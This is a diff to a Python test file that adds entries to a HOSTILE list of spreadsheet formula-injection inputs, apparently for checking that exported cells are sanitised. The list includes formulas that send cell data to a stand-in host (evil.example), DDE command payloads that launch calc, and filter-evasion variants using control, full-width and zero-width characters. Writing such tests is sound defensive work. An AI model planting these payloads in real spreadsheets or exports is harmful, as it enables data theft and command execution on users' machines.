@@ -164,12 +164,27 @@ def test_adding_up_loses_nothing(rows: list[Row], by: tuple[By, ...]) -> None:
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1)',
+    '=IMPORTXML(CONCAT("https://evil.example/?", A1:E1), "//a")',
+    "=cmd|' /C calc'!A0",
+    "=1",
+    "==1",
     "+1+2",
     "-2+3+cmd|' /C calc'!A0",
+    "-1",
     "@SUM(1)",
+    "@",
     "\t=1",
+    "\r=1",
+    "\n=1",
+    "\r\n=1",
     "＝1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
     " =1",
+    "\xa0=1",
+    "\u200b=1",
+    "\ufeff=1",
 ]
 
 
